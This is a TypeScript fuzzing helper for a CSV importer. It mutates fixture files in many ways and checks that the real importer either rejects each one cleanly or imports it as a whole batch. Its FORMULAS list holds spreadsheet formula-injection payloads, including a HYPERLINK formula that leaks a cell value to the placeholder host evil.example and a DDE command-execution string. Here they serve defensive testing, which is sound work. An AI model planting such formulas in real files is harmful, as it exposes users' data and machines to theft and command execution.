/**
 * Import fuzzer: seeded mutations of valid CSV files (fixtures/demo, fixtures/import-cases) — random bytes,
 * encodings, quotes, huge fields, very many columns, formula injection, truncation, line ends, delimiters —
 * each imported with the real importer. Every outcome must be a clean rejection (problems, each with a line
 * number inside the file and a reason; nothing written) or a correct import (a whole batch: its rows number
 * its row_count); never a throw, a hang or a change to the database by a rejected file.
 *
 * Used by test/reliability/fuzz.test.ts (short run) and scripts/fuzz-import.ts (long run with figures).
 */
import { loadDemoCity } from '../../src/services/demoCity.ts';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { isImportKind, type ImportKind, type ImportOutcome } from '../../src/imports/types.ts';
import { checkBatchesOn, ROOT, rng } from './helpers.ts';
import { countOf } from '../support/toEngine.ts';
import { importFile } from '../../src/imports/service.ts';
import type { Store } from '../../src/store/store.ts';
import type { Sql } from '../../src/store/sql.ts';

export interface Seed {
  readonly name: string;
  readonly kind: ImportKind;
  readonly bytes: Buffer;
}

/** The valid (and deliberately broken) files the fuzzer starts from, with their kinds from the file names. */
export function seedFiles(): Seed[] {
  const out: Seed[] = [];
  for (const dir of ['fixtures/demo', 'fixtures/import-cases']) {
    for (const f of readdirSync(join(ROOT, dir)).sort()) {
      const kind = f.replace(/\.(csv|txt)$/, '').replace(/-.*$/, '');
      if (isImportKind(kind)) out.push({ name: `${dir.split('/')[1]}/${f}`, kind, bytes: readFileSync(join(ROOT, dir, f)) });
    }
  }
  return out;
}

type Rand = () => number;
const int = (r: Rand, min: number, max: number) => min + Math.floor(r() * (max - min + 1));
const pick = <T>(r: Rand, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;

const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', '=cmd|\' /C calc\'!A0', '+1+1', '-2+3', '@SUM(1,2)', '=1+1', '\t=1', '\r=1'];
const NASTY = ['"', '""', '\r', '\n', '\r\n', ',', '\t', '，', '\u0000', '\uFEFF', '\u202E', '\uD800', 'X', '１２３', '1.30503E+17', '46310', '9'.repeat(30)];

/** One named mutation of a file's bytes. */
export const MUTATIONS: Record<string, (b: Buffer, r: Rand, seeds: Seed[]) => Buffer> = {
  flipBytes(b, r) {
    const c = Buffer.from(b);
    for (let i = int(r, 1, 20); i > 0 && c.length; i--) c[int(r, 0, c.length - 1)] = int(r, 0, 255);
    return c;
  },
  insertBytes(b, r) {
    const at = int(r, 0, b.length);
    const junk = Buffer.from(Array.from({ length: int(r, 1, 64) }, () => pick(r, [0, 0xff, 0xfe, 0x22, 0x0d, 0x0a, 0x2c, 0x09, 0x80, 0xc0, int(r, 0, 255)])));
    return Buffer.concat([b.subarray(0, at), junk, b.subarray(at)]);
  },
  deleteRange(b, r) {
    const at = int(r, 0, b.length);
    return Buffer.concat([b.subarray(0, at), b.subarray(Math.min(b.length, at + int(r, 1, 400)))]);
  },
  truncate(b, r) {
    return b.subarray(0, int(r, 0, b.length));
  },
  nastyText(b, r) {
    const s = b.toString('latin1');
    let out = s;
    for (let i = int(r, 1, 8); i > 0; i--) {
      const at = int(r, 0, out.length);
      out = out.slice(0, at) + Buffer.from(pick(r, NASTY), 'utf8').toString('latin1') + out.slice(at);
    }
    return Buffer.from(out, 'latin1');
  },
  unbalancedQuote(b, r) {
    const lines = b.toString('latin1').split('\n');
    const i = int(r, 0, lines.length - 1);
    lines[i] = r() < 0.5 ? `"${lines[i]}` : `${lines[i]}"x"y`;
    return Buffer.from(lines.join('\n'), 'latin1');
  },
  quotedNewlines(b, r) {
    const lines = b.toString('utf8').split('\n');
    const i = int(r, 1, Math.max(1, lines.length - 1));
    const cells = (lines[i] ?? '').split(',');
    const j = int(r, 0, cells.length - 1);
    cells[j] = `"${(cells[j] ?? '').replace(/"/g, '""')}\n第二行\r\n第三行"`;
    lines[i] = cells.join(',');
    return Buffer.from(lines.join('\n'), 'utf8');
  },
  hugeField(b, r) {
    const lines = b.toString('utf8').split('\n');
    const i = int(r, 0, lines.length - 1);
    const size = pick(r, [70_000, 300_000, 1_100_000]);
    const field = r() < 0.5 ? 'A'.repeat(size) : `"${'引号,逗号\n'.repeat(Math.floor(size / 12))}"`;
    lines[i] = `${lines[i]},${field}`;
    return Buffer.from(lines.join('\n'), 'utf8');
  },
  manyColumns(b, r) {
    const lines = b.toString('utf8').split('\n');
    const i = r() < 0.5 ? 0 : int(r, 0, lines.length - 1);
    const n = pick(r, [300, 5_000, 60_000]);
    lines[i] = (lines[i] ?? '').replace(/\r$/, '') + ',c'.repeat(n);
    return Buffer.from(lines.join('\n'), 'utf8');
  },
  manyEmptyColumns(b, r) {
    const n = pick(r, [1_000, 100_000]);
    return Buffer.concat([b, Buffer.from(`${','.repeat(n)}\n`)]);
  },
  formulaInjection(b, r) {
    const lines = b.toString('utf8').split('\n');
    for (let k = int(r, 1, 5); k > 0; k--) {
      const i = int(r, 1, Math.max(1, lines.length - 1));
      const cells = (lines[i] ?? '').split(',');
      const j = int(r, 0, cells.length - 1);
      const f = pick(r, FORMULAS);
      cells[j] = /[",\r\n]/.test(f) ? `"${f.replace(/"/g, '""')}"` : f;
      lines[i] = cells.join(',');
    }
    return Buffer.from(lines.join('\n'), 'utf8');
  },
  utf16(b) {
    return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(b.toString('utf8'), 'utf16le')]);
  },
  latin1Reencode(b) {
    return Buffer.from(b.toString('utf8'), 'latin1');
  },
  doubleBom(b) {
    return Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]), b]);
  },
  lineEnds(b, r) {
    const s = b.toString('latin1');
    return Buffer.from(r() < 0.5 ? s.replace(/\r?\n/g, '\r') : s.replace(/\r?\n/g, '\r\r\n'), 'latin1');
  },
  delimiterChaos(b, r) {
    const lines = b.toString('latin1').split('\n');
    return Buffer.from(lines.map((l) => (r() < 0.5 ? l.replace(/,/g, pick(r, ['\t', ';', '|'])) : l)).join('\n'), 'latin1');
  },
  duplicateLines(b, r) {
    const lines = b.toString('latin1').split('\n');
    const i = int(r, 0, lines.length - 1);
    return Buffer.from([...lines.slice(0, i), ...Array(int(r, 2, 3000)).fill(lines[i]), ...lines.slice(i)].join('\n'), 'latin1');
  },
  splice(b, r, seeds) {
    const other = pick(r, seeds).bytes;
    return Buffer.concat([b.subarray(0, int(r, 0, b.length)), other.subarray(int(r, 0, other.length))]);
  },
  onlyHeader(b) {
    return b.subarray(0, Math.max(0, b.indexOf(0x0a) + 1));
  },
  binary(_b, r) {
    return Buffer.from(Array.from({ length: int(r, 1, 4096) }, () => int(r, 0, 255)));
  },
};

export interface FuzzCase {
  readonly n: number;
  readonly seedFile: string;
  readonly kind: ImportKind;
  readonly mutations: string[];
  readonly bytes: Buffer;
}

/** The n-th case of a seeded run: 1–3 mutations of one seed file, or the file imported as another kind. */
export function makeCase(seed: number, n: number, seeds: Seed[]): FuzzCase {
  const r = rng(seed * 1_000_003 + n);
  const base = pick(r, seeds);
  const names = Object.keys(MUTATIONS);
  const count = int(r, 1, 3);
  const applied: string[] = [];
  let bytes = base.bytes;
  for (let i = 0; i < count; i++) {
    const m = pick(r, names);
    applied.push(m);
    bytes = MUTATIONS[m]!(bytes, r, seeds);
  }
  const kind = r() < 0.1 ? pick(r, ['projects', 'roster', 'payroll', 'payments', 'account_transactions', 'deposits'] as const) : base.kind;
  return { n, seedFile: base.name, kind, mutations: applied, bytes };
}

function physicalLines(bytes: Buffer): number {
  let n = 1;
  for (let i = 0; i < bytes.length; i++) {
    if (bytes[i] === 0x0a) n++;
    else if (bytes[i] === 0x0d && bytes[i + 1] !== 0x0a) n++;
  }
  return n;
}

async function factRowCount(sql: Sql): Promise<number> {
  return countOf(
    await sql.get<{ n: number }>(
      `SELECT (SELECT count(*) FROM import_batches) + (SELECT count(*) FROM projects) + (SELECT count(*) FROM roster_entries) +
              (SELECT count(*) FROM payroll_rows) + (SELECT count(*) FROM payments) + (SELECT count(*) FROM account_transactions) +
              (SELECT count(*) FROM deposit_events) + (SELECT count(*) FROM audit_log) AS n`,
    ),
  );
}

export interface CaseResult {
  readonly status: ImportOutcome['status'] | 'threw';
  readonly ms: number;
  /** what was wrong with the outcome (empty when it was clean) */
  readonly faults: string[];
}

/** Imports one case into the store's database (either engine) and judges the outcome. */
export async function runCase(store: Store, c: FuzzCase, now: string): Promise<CaseResult> {
  const sql = store.sql;
  const before = await factRowCount(sql);
  const superseded = countOf(await sql.get<{ n: number }>('SELECT count(*) AS n FROM payroll_rows WHERE superseded_by IS NOT NULL'));
  const t0 = performance.now();
  let outcome: ImportOutcome;
  try {
    const req = { kind: c.kind, fileName: `fuzz-${c.n}.csv`, source: { buffer: c.bytes }, actor: 'fuzz', now } as const;
    outcome = await importFile(store, req);
  } catch (e) {
    return { status: 'threw', ms: performance.now() - t0, faults: [`threw: ${(e as Error).stack?.split('\n').slice(0, 4).join(' | ')}`] };
  }
  const ms = performance.now() - t0;
  const faults: string[] = [];
  if (sql.inTransaction) faults.push('left a transaction open');
  if (outcome.status === 'rejected') {
    if (outcome.problems.length === 0) faults.push('rejected without a problem');
    const lines = physicalLines(c.bytes);
    for (const p of outcome.problems.slice(0, 1000)) {
      if (!Number.isInteger(p.line) || p.line < 0 || p.line > lines + 1) faults.push(`problem line ${p.line} outside 0..${lines}`);
      if (typeof p.reason !== 'string' || p.reason.trim() === '') faults.push('problem without a reason');
      if (p.column !== null && typeof p.column !== 'string') faults.push('column is neither text nor null');
    }
    if ((await factRowCount(sql)) !== before) faults.push('a rejected file changed the database');
  } else if (outcome.status === 'imported') {
    const check = await checkBatchesOn(sql, ['roster', 'payroll', 'payments', 'account_transactions', 'deposits'], { integrity: false });
    const mine = check.partial.filter((p) => p.id === outcome.batch.id);
    if (mine.length > 0) faults.push(`batch not whole: ${JSON.stringify(mine)}`);
    if (outcome.batch.rowCount < 0 || outcome.batch.inserted + outcome.batch.replaced < 0) faults.push('negative counts');
    if (superseded < 0) faults.push('impossible');
  } else if ((await factRowCount(sql)) !== before) {
    faults.push('a duplicate changed the database');
  }
  return { status: outcome.status, ms, faults: faults.slice(0, 5) };
}

export interface FuzzFigures {
  cases: number;
  imported: number;
  duplicate: number;
  rejected: number;
  threw: number;
  slowestMs: number;
  slowest: string;
  byMutation: Record<string, number>;
  failures: { n: number; seedFile: string; kind: string; mutations: string[]; faults: string[] }[];
}

/** A database with the demo city (so references resolve and mutated rows can really import). */
export async function fuzzDatabase(store: Store, now: string): Promise<void> {
  await loadDemoCity(store, now);
}

/** Runs cases seed/0, seed/1, … into the store's database until `budgetMs` has passed or `maxCases` ran. */
export async function runFuzz(store: Store, opts: { seed: number; budgetMs: number; maxCases?: number; caseLimitMs?: number; now: string; onCase?: (c: FuzzCase, r: CaseResult) => void }): Promise<FuzzFigures> {
  const seeds = seedFiles();
  const fig: FuzzFigures = { cases: 0, imported: 0, duplicate: 0, rejected: 0, threw: 0, slowestMs: 0, slowest: '', byMutation: {}, failures: [] };
  const t0 = performance.now();
  for (let n = 0; performance.now() - t0 < opts.budgetMs && n < (opts.maxCases ?? Infinity); n++) {
    const c = makeCase(opts.seed, n, seeds);
    const r = await runCase(store, c, opts.now);
    fig.cases++;
    fig[r.status]++;
    if (r.ms > fig.slowestMs) {
      fig.slowestMs = r.ms;
      fig.slowest = `case ${opts.seed}/${n} ${c.kind} from ${c.seedFile}: ${c.mutations.join(' + ')} (${c.bytes.length} bytes, ${r.status})`;
    }
    for (const m of c.mutations) fig.byMutation[m] = (fig.byMutation[m] ?? 0) + 1;
    const faults = [...r.faults];
    if (opts.caseLimitMs !== undefined && r.ms > opts.caseLimitMs) faults.push(`took ${r.ms.toFixed(0)} ms (limit ${opts.caseLimitMs})`);
    if (faults.length > 0) fig.failures.push({ n, seedFile: c.seedFile, kind: c.kind, mutations: c.mutations, faults });
    opts.onCase?.(c, r);
  }
  return fig;
}
